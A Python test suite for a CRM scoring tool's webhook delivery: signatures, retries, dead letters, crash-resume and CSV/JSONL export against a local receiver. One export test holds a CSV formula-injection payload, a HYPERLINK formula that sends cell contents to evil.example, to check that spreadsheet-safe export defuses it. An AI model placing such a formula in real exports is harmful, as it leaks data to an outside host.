"""Webhook delivery against a local receiver: signatures, retries, dead letters, kill -9, export."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from serving.cli import app
from serving.delivery import (
    DeliveryPolicy,
    WebhookConfigError,
    check_url,
    deliver,
    parse_retry_after,
    retry_delay,
    sign,
    signing_key,
    verify_signature,
    webhook_headers,
)
from serving.events import diff_snapshots, event_body
from serving.store import RunRecord, ScoreStore, StoreLockedError

SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
AS_OF = datetime(2025, 7, 1)
CREATED = datetime(2025, 7, 1, 2, 0)
runner = CliRunner()


def make_store(directory: Path, customers: int = 40) -> ScoreStore:
    """A store whose first run emitted events for every customer (tag + segment)."""
    ids = [f"c-{i:04d}" for i in range(customers)]
    current = pd.DataFrame(
        {
            "customer_id": ids,
            "tag_churn_risk": pd.Series([["low", "medium", "high"][i % 3] for i in range(customers)], dtype="str"),
            "segment_win_back": [i % 2 == 0 for i in range(customers)],
        }
    )
    store = ScoreStore(directory)
    events = diff_snapshots(None, current, run_id="run_1", as_of=AS_OF, created_at=CREATED, emit_initial=True)
    store.write_snapshot("run_1", current)
    store.commit_run(RunRecord("run_1", AS_OF, CREATED, None, customers, {"churn_propensity": "1"}, "r"), events)
    return store


def event_ids(store: ScoreStore) -> list[str]:
    return [e["id"] for e in store.iter_events()]


# --------------------------------------------------------------------------------------
# a local receiver
# --------------------------------------------------------------------------------------


@dataclass
class Request:
    event_id: str
    verified: bool
    body_id: str
    action: str


@dataclass
class Receiver:
    """Answers each POST as `decide(n, event_id)` says: ok, 500, 503, 429, 400, 410, hang, drop."""

    decide: Callable[[int, str], str]
    hang_seconds: float = 0.5
    delay: float = 0.0
    requests: list[Request] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    url: str = ""

    def acknowledged(self) -> set[str]:
        with self.lock:
            return {r.event_id for r in self.requests if r.action == "ok"}

    def count(self) -> int:
        with self.lock:
            return len(self.requests)


@contextmanager
def serve(receiver: Receiver) -> Iterator[Receiver]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: object) -> None:  # quiet
            pass

        def do_POST(self) -> None:  # noqa: N802
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            verified = verify_signature(SECRET, self.headers, body)
            event_id = self.headers.get("webhook-id", "")
            with receiver.lock:
                n = len(receiver.requests)
                action = receiver.decide(n, event_id)
                receiver.requests.append(Request(event_id, verified, json.loads(body)["id"], action))
            if receiver.delay:
                time.sleep(receiver.delay)
            if action == "drop":
                self.close_connection = True
                self.connection.shutdown(socket.SHUT_RDWR)
                return
            if action == "hang":
                time.sleep(receiver.hang_seconds)
            status = {"ok": 200, "hang": 200, "500": 500, "503": 503, "429": 429, "400": 400, "410": 410}[action]
            try:
                self.send_response(status)
                if action == "429":
                    self.send_header("Retry-After", "0")
                self.send_header("content-length", "0")
                self.end_headers()
            except OSError:  # the client gave up (hang past its timeout)
                self.close_connection = True

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    receiver.url = f"http://127.0.0.1:{server.server_address[1]}/hooks"
    try:
        yield receiver
    finally:
        server.shutdown()
        server.server_close()


# Many attempts: a loaded CI machine may time out a few healthy requests too.
FAST = DeliveryPolicy(max_attempts=50, backoff=0.01, max_backoff=0.05, timeout=0.25, concurrency=4)


# --------------------------------------------------------------------------------------
# signatures and retry arithmetic
# --------------------------------------------------------------------------------------


def test_signature_matches_the_standard_webhooks_test_vector() -> None:
    body = b'{"test": 2432232314}'
    expected = "v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE="
    assert sign(signing_key(SECRET), "msg_p5jXN8AQM9LWM0D4loKWxJek", 1614265330, body) == expected
    headers = {"Webhook-Id": "msg_p5jXN8AQM9LWM0D4loKWxJek", "Webhook-Timestamp": "1614265330", "Webhook-Signature": expected}
    assert verify_signature(SECRET, headers, body, now=1614265330 + 10)
    assert not verify_signature(SECRET, headers, body)  # five minutes is the default tolerance
    assert verify_signature(SECRET, headers, body, tolerance_seconds=None)
    assert not verify_signature(SECRET, headers, body + b" ", tolerance_seconds=None)
    assert not verify_signature("whsec_" + "QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB", headers, body, tolerance_seconds=None)
    rotated = {**headers, "Webhook-Signature": "v1,bm90IHRoaXMgb25l " + expected}  # old and new key side by side
    assert verify_signature(SECRET, rotated, body, tolerance_seconds=None)
    assert not verify_signature(SECRET, {**headers, "Webhook-Signature": ""}, body, tolerance_seconds=None)


def test_plain_secrets_are_used_as_bytes_and_bad_ones_are_refused() -> None:
    now = int(time.time())
    headers = webhook_headers(signing_key("not-a-whsec-secret"), "evt_1", now, b"{}")
    assert verify_signature("not-a-whsec-secret", headers, "{}")
    assert not verify_signature(SECRET, headers, "{}")
    with pytest.raises(WebhookConfigError, match="base64"):
        signing_key("whsec_%%%")
    with pytest.raises(WebhookConfigError, match=r"http\(s\) URL with a host, e.g. https://crm.example.com/hooks \(got no scheme\)"):
        check_url("notaurl")
    with pytest.raises(WebhookConfigError, match=r"\(got scheme 'ftp'\)"):
        check_url("ftp://host/x")
    with pytest.raises(WebhookConfigError, match="empty"):
        signing_key("")


def test_retry_delays_double_cap_and_honour_retry_after() -> None:
    policy = DeliveryPolicy(backoff=1.0, max_backoff=30.0, jitter=0.0)
    assert [retry_delay(n, policy) for n in (1, 2, 3, 6, 7)] == [1.0, 2.0, 4.0, 30.0, 30.0]
    assert retry_delay(1, policy, retry_after=12) == 12.0
    assert retry_delay(1, policy, retry_after=3600) == 30.0  # within reason: at most --max-backoff
    assert retry_delay(5000, policy) == 30.0  # no float overflow after 1,025 attempts
    jittered = retry_delay(2, DeliveryPolicy(backoff=1.0, jitter=0.1), rng=random.Random(1))
    assert 2.0 <= jittered <= 2.2
    assert parse_retry_after("7") == 7.0
    assert parse_retry_after("Wed, 01 Jan 2025 00:00:30 GMT", now=datetime(2025, 1, 1)) == 30.0
    assert parse_retry_after("soon") is None and parse_retry_after(None) is None


# --------------------------------------------------------------------------------------
# delivery
# --------------------------------------------------------------------------------------


def test_a_flaky_receiver_gets_every_event_at_least_once_with_valid_signatures(tmp_path: Path) -> None:
    store = make_store(tmp_path, customers=40)  # 60 events
    expected = event_ids(store)
    rng = random.Random(7)
    forced = ["500", "hang", "drop", "429", "503", "400"]  # each failure kind at least once

    def decide(n: int, _: str) -> str:
        if n < len(forced):
            return forced[n]
        return rng.choices(["ok", "500", "hang", "drop", "429"], weights=[60, 15, 5, 15, 5])[0]

    with serve(Receiver(decide, hang_seconds=0.5)) as receiver:
        report = deliver(store, receiver.url, SECRET, FAST)
    assert report.ok and report.delivered == len(expected) and report.pending == 0 and report.dead == 0
    assert report.retried >= len(forced)
    assert receiver.acknowledged() == set(expected)
    assert all(r.verified for r in receiver.requests)
    assert all(r.event_id == r.body_id for r in receiver.requests)
    assert {r.action for r in receiver.requests} >= set(forced)
    assert store.event_counts() == {"pending": 0, "delivered": len(expected), "dead": 0}
    events = list(store.iter_events())
    assert all(e["delivered_at"] for e in events)
    attempts = {e["id"]: e["attempts"] for e in events}
    sent = {i: sum(r.event_id == i for r in receiver.requests) for i in expected}
    # Every request the receiver saw is a recorded attempt (a hang too: the sender timed out).
    assert all(attempts[i] >= sent[i] >= 1 for i in expected)


def test_an_event_the_receiver_keeps_refusing_is_dead_lettered_after_max_attempts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = make_store(tmp_path, customers=4)  # 6 events
    poison = event_ids(store)[2]
    monkeypatch.setenv("CRMSCORE_WEBHOOK_SECRET", SECRET)
    with serve(Receiver(lambda n, i: "500" if i == poison else "ok")) as receiver:
        result = runner.invoke(
            app,
            ["triggers", "deliver", "--url", receiver.url, "--max-attempts", "3", "--backoff", "0.01", "--max-backoff", "0.02", "--store", str(tmp_path)],
        )
        assert result.exit_code == 1, result.output
        assert "1 event(s) dead-lettered" in result.output
        assert sum(r.event_id == poison for r in receiver.requests) == 3
    assert store.event_counts() == {"pending": 0, "delivered": 5, "dead": 1}
    (dead,) = store.iter_events("dead")
    assert dead["attempts"] == 3 and dead["last_error"] == "HTTP 500 Internal Server Error"

    # After fixing the receiver: requeue, deliver again.
    assert runner.invoke(app, ["triggers", "requeue", "--store", str(tmp_path)]).exit_code == 0
    with serve(Receiver(lambda n, i: "ok")) as receiver:
        result = runner.invoke(app, ["triggers", "deliver", "--url", receiver.url, "--store", str(tmp_path)])
    assert result.exit_code == 0, result.output
    assert store.event_counts() == {"pending": 0, "delivered": 6, "dead": 0}

    # Delivered events can be pruned; a young one is kept until it is old enough.
    kept = runner.invoke(app, ["triggers", "prune", "--older-than", "1", "--store", str(tmp_path)])
    assert kept.exit_code == 0 and "0 event(s) delivered before" in kept.output, kept.output
    pruned = runner.invoke(app, ["triggers", "prune", "--older-than", "0", "--store", str(tmp_path)])
    assert pruned.exit_code == 0 and "6 event(s) delivered before" in pruned.output, pruned.output
    assert store.event_counts() == {"pending": 0, "delivered": 0, "dead": 0}
    refused = runner.invoke(app, ["triggers", "prune", "--older-than", "-1", "--store", str(tmp_path)])
    assert refused.exit_code == 2 and "older-than" in refused.output


def test_a_receiver_that_always_fails_stops_the_run_with_events_pending(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = make_store(tmp_path, customers=4)  # 6 events
    monkeypatch.setenv("CRMSCORE_WEBHOOK_SECRET", SECRET)
    with serve(Receiver(lambda n, i: "400")) as receiver:  # e.g. a receiver that rejects every body
        result = runner.invoke(
            app,
            ["triggers", "deliver", "--url", receiver.url, "--max-attempts", "3", "--backoff", "0.01", "--max-backoff", "0.02", "--store", str(tmp_path)],
        )
        assert result.exit_code == 1, result.output
        assert "times in a row (last: HTTP 400 Bad Request)" in result.output and "left pending" in result.output
        assert "/hooks" not in result.output
        # Up to 4 in flight together (one failed round), then probes until 3 failed rounds.
        assert 3 <= receiver.count() <= 6, receiver.count()
    assert store.event_counts() == {"pending": 6, "delivered": 0, "dead": 0}


def test_410_gone_stops_the_run_and_keeps_events_pending(tmp_path: Path) -> None:
    store = make_store(tmp_path, customers=4)
    with serve(Receiver(lambda n, i: "410")) as receiver:
        report = deliver(store, receiver.url, SECRET, DeliveryPolicy(backoff=0.01, concurrency=1))
    assert report.stopped and "410" in report.stopped and not report.ok
    assert "/hooks" not in report.stopped  # paths often hold tokens: only scheme and host are shown
    assert receiver.count() == 1
    assert store.event_counts() == {"pending": 6, "delivered": 0, "dead": 0}


def test_no_wait_makes_one_pass_and_leaves_scheduled_retries(tmp_path: Path) -> None:
    store = make_store(tmp_path, customers=2)  # 3 events
    first = event_ids(store)[0]
    now = [datetime(2026, 1, 1)]
    slept: list[float] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        now[0] += timedelta(seconds=seconds)

    with serve(Receiver(lambda n, i: "500" if i == first else "ok")) as receiver:
        policy = DeliveryPolicy(backoff=30, wait=False, concurrency=1, jitter=0.0)
        report = deliver(store, receiver.url, SECRET, policy, clock=lambda: now[0], sleep=sleep)
    # The failure holds the pass 30 s, then it sends the rest; the failed event's retry (due
    # 30 s after the pass started) is the next run's.
    assert (report.attempts, report.delivered, report.retried, report.pending) == (3, 2, 1, 1)
    assert slept == [30.0]
    assert "still pending" in (report.failure_reason() or "")
    event = store.get_event(first)
    assert event["status"] == "pending" and event["attempts"] == 1  # type: ignore[index]


def test_requests_failing_together_are_one_failed_round(tmp_path: Path) -> None:
    # A receiver restart fails every request in flight at once: that is one failure, not
    # `concurrency` of them, so the run holds and probes instead of stopping at once.
    store = make_store(tmp_path, customers=40)  # 60 events in 40 groups
    now = [datetime(2026, 1, 1)]

    def sleep(seconds: float) -> None:
        now[0] += timedelta(seconds=seconds)

    def decide(n: int, _: str) -> str:
        return "503" if n < 8 else "ok"

    with serve(Receiver(decide, delay=0.05)) as receiver:
        policy = DeliveryPolicy(concurrency=8, max_attempts=3, jitter=0.0)
        report = deliver(store, receiver.url, SECRET, policy, clock=lambda: now[0], sleep=sleep)
    assert report.ok and report.delivered == 60 and report.status_codes.get("503") == 8, report


@pytest.mark.parametrize("down_minutes", [5, None])
def test_a_receiver_that_is_down_gets_probes_not_the_outbox(tmp_path: Path, down_minutes: int | None) -> None:
    store = make_store(tmp_path, customers=40)  # 60 events
    start = datetime(2026, 1, 1)
    now = [start]

    def sleep(seconds: float) -> None:
        now[0] += timedelta(seconds=seconds)

    def decide(n: int, _: str) -> str:
        return "503" if down_minutes is None or now[0] < start + timedelta(minutes=down_minutes) else "ok"

    with serve(Receiver(decide)) as receiver:
        # The defaults: 10 attempts per event, back-off from 1 s up to 300 s.
        report = deliver(store, receiver.url, SECRET, DeliveryPolicy(jitter=0.0), clock=lambda: now[0], sleep=sleep)
    # Up to 4 in flight when it went down (one failed round), then one probe at a time after
    # 1, 2, 4, ... 256 s: at most 13 failed requests.
    assert report.status_codes["503"] <= 13, report.status_codes
    assert report.dead == 0 and max(e["attempts"] for e in store.iter_events()) < 10
    if down_minutes is not None:  # back within the run: everything delivered
        assert report.ok and report.delivered == 60, report
        assert now[0] >= start + timedelta(minutes=down_minutes)
    else:  # down for good: the run stops after 10 failures in a row, everything still pending
        assert not report.ok and report.pending == 60 and report.delivered == 0
        assert "failed 10 times in a row (last: HTTP 503 Service Unavailable)" in (report.stopped or ""), report.stopped
        assert timedelta(minutes=5) < now[0] - start < timedelta(minutes=10)


def test_wait_mode_sleeps_until_the_next_retry_is_due(tmp_path: Path) -> None:
    store = make_store(tmp_path, customers=1)  # a tag and a segment event
    first = event_ids(store)[0]
    now = [datetime(2026, 1, 1)]
    slept: list[float] = []
    failures: list[str] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        now[0] += timedelta(seconds=seconds)

    def decide(n: int, event_id: str) -> str:
        if event_id == first and len(failures) < 2:
            failures.append(event_id)
            return "500"
        return "ok"

    with serve(Receiver(decide)) as receiver:
        policy = DeliveryPolicy(backoff=5, max_backoff=60, jitter=0.0)
        report = deliver(store, receiver.url, SECRET, policy, clock=lambda: now[0], sleep=sleep)
    assert report.ok and report.attempts == 4 and report.delivered == 2
    # The back-off doubles: the failing event goes again 5 s, then 10 s after its failures
    # (the run also holds 5 s after each failure, sending the other event meanwhile).
    assert sum(slept) == 15.0 and store.get_event(first)["attempts"] == 3  # type: ignore[index]


def test_missing_secret_fails_and_marks_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = make_store(tmp_path, customers=2)
    monkeypatch.delenv("CRMSCORE_WEBHOOK_SECRET", raising=False)
    with serve(Receiver(lambda n, i: "ok")) as receiver:
        result = runner.invoke(app, ["triggers", "deliver", "--url", receiver.url, "--store", str(tmp_path)])
        assert receiver.count() == 0
    assert result.exit_code == 1
    assert "CRMSCORE_WEBHOOK_SECRET" in result.output
    assert store.event_counts()["pending"] == 3 and {e["attempts"] for e in store.iter_events()} == {0}


def test_bad_url_and_missing_store_are_one_line_errors(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CRMSCORE_WEBHOOK_SECRET", SECRET)
    make_store(tmp_path / "s", customers=1)
    result = runner.invoke(app, ["triggers", "deliver", "--url", "ftp://x", "--store", str(tmp_path / "s")])
    assert result.exit_code == 1 and "http(s) URL" in result.output
    result = runner.invoke(app, ["triggers", "export", "--format", "jsonl", "--store", str(tmp_path / "nope")])
    assert result.exit_code == 1 and "no score store" in result.output
    for url in ("http://localhost:99999/hook", "http://localhost:abc/hook"):
        result = runner.invoke(app, ["triggers", "deliver", "--url", url, "--store", str(tmp_path / "s")])
        assert result.exit_code == 1 and "--url has a bad port" in result.output, result.output
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / "scores.sqlite").write_bytes(b"not a database, just some bytes" * 100)
    for command in (["triggers", "export", "--format", "jsonl"], ["triggers", "deliver", "--url", "http://localhost:9/h"]):
        result = runner.invoke(app, [*command, "--store", str(tmp_path / "bad")])
        assert result.exit_code == 1 and "cannot be read as a score store" in result.output, result.output
        assert "Traceback" not in result.output


def test_only_one_delivery_at_a_time(tmp_path: Path) -> None:
    store = make_store(tmp_path, customers=1)
    with store.delivery_lock():
        with pytest.raises(StoreLockedError, match="another"):
            deliver(ScoreStore(tmp_path), "http://127.0.0.1:9/", SECRET, FAST)
    assert store.event_counts()["pending"] == 2


def test_killing_delivery_mid_run_and_resuming_loses_nothing(tmp_path: Path) -> None:
    store = make_store(tmp_path, customers=100)  # 150 events
    expected = event_ids(store)
    store.close()
    command = [
        str(Path(sys.executable).with_name("crm-scoring")), "triggers", "deliver", "--url", "", "--store", str(tmp_path),
        "--backoff", "0.01", "--concurrency", "2", "--timeout", "2",
    ]
    env = {**os.environ, "CRMSCORE_WEBHOOK_SECRET": SECRET}
    with serve(Receiver(lambda n, i: "500" if n % 7 == 3 else "ok", delay=0.01)) as receiver:
        command[command.index("--url") + 1] = receiver.url
        process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            deadline = time.monotonic() + 30
            while receiver.count() < 40 and time.monotonic() < deadline and process.poll() is None:
                time.sleep(0.01)
            assert process.poll() is None, "delivery ended before it could be killed"
            os.kill(process.pid, signal.SIGKILL)
        finally:
            process.wait(timeout=10)
        assert process.returncode == -signal.SIGKILL

        killed = ScoreStore(tmp_path)
        counts = killed.event_counts()
        assert counts["delivered"] > 0 and counts["pending"] > 0 and counts["dead"] == 0
        # Nothing is marked delivered that the receiver did not acknowledge.
        assert {e["id"] for e in killed.iter_events("delivered")} <= receiver.acknowledged()

        report = deliver(killed, receiver.url, SECRET, FAST)  # resume (the lock died with the process)
    assert report.ok
    assert receiver.acknowledged() == set(expected)
    assert all(r.verified for r in receiver.requests)
    assert killed.event_counts() == {"pending": 0, "delivered": len(expected), "dead": 0}


# --------------------------------------------------------------------------------------
# export
# --------------------------------------------------------------------------------------


def test_export_jsonl_and_csv(tmp_path: Path) -> None:
    store = make_store(tmp_path, customers=3)  # c-0000 low + segment, c-0001 medium, c-0002 high + segment
    ids = event_ids(store)
    store.mark_delivered(ids[0], datetime(2025, 7, 2))

    result = runner.invoke(app, ["triggers", "export", "--format", "jsonl", "--store", str(tmp_path)])
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["id"] for line in lines] == ids
    assert lines[0] == event_body(store.get_event(ids[0]))  # type: ignore[arg-type]
    assert lines[0]["type"] == "tag.entered" and lines[0]["data"]["tag"] == "churn_risk" and lines[0]["data"]["value"] == "low"
    assert lines[1]["type"] == "segment.entered" and lines[1]["data"]["segment"] == "win_back"

    pending = runner.invoke(app, ["triggers", "export", "--format", "jsonl", "--pending", "--store", str(tmp_path)])
    assert [json.loads(line)["id"] for line in pending.stdout.splitlines()] == ids[1:]

    result = runner.invoke(app, ["triggers", "export", "--format", "csv", "--store", str(tmp_path)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["id"] for r in rows] == ids
    assert rows[0] == {
        "id": ids[0], "type": "tag.entered", "timestamp": "2025-07-01T02:00:00Z", "customer_id": "c-0000",
        "name": "churn_risk", "value": "low", "previous_value": "", "next_value": "low",
        "as_of": "2025-07-01T00:00:00Z", "run_id": "run_1",
    }
    assert rows[1]["type"] == "segment.entered" and rows[1]["name"] == "win_back" and rows[1]["value"] == ""
    # Exporting marks nothing.
    assert store.event_counts() == {"pending": len(ids) - 1, "delivered": 1, "dead": 0}


def test_csv_export_for_spreadsheets_defuses_formulas(tmp_path: Path) -> None:
    # Customer ids come from the profile: one that looks like a formula must not run when a
    # marketer opens the export in a spreadsheet (with --spreadsheet-safe); plain export keeps it exact.
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    full_width = "\uff1dHYPERLINK(1)"  # ＝: spreadsheets in East Asian locales may read it as =
    current = pd.DataFrame(
        {"customer_id": [formula, "-42", "c-1", full_width], "tag_churn_risk": pd.Series(["high"] * 4, dtype="str")}
    )
    store = ScoreStore(tmp_path)
    events = diff_snapshots(None, current, run_id="run_1", as_of=AS_OF, created_at=CREATED, emit_initial=True)
    store.write_snapshot("run_1", current)
    store.commit_run(RunRecord("run_1", AS_OF, CREATED, None, 4, {"churn_propensity": "1"}, "r"), events)

    exact = runner.invoke(app, ["triggers", "export", "--format", "csv", "--store", str(tmp_path)])
    assert sorted(r["customer_id"] for r in csv.DictReader(io.StringIO(exact.stdout))) == sorted([formula, "-42", "c-1", full_width])
    safe = runner.invoke(app, ["triggers", "export", "--format", "csv", "--spreadsheet-safe", "--store", str(tmp_path)])
    assert safe.exit_code == 0, safe.output
    rows = list(csv.DictReader(io.StringIO(safe.stdout)))
    assert sorted(r["customer_id"] for r in rows) == sorted(["'" + formula, "'-42", "c-1", "'" + full_width])
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
    refused = runner.invoke(app, ["triggers", "export", "--format", "jsonl", "--spreadsheet-safe", "--store", str(tmp_path)])
    assert refused.exit_code == 1 and "csv only" in refused.output
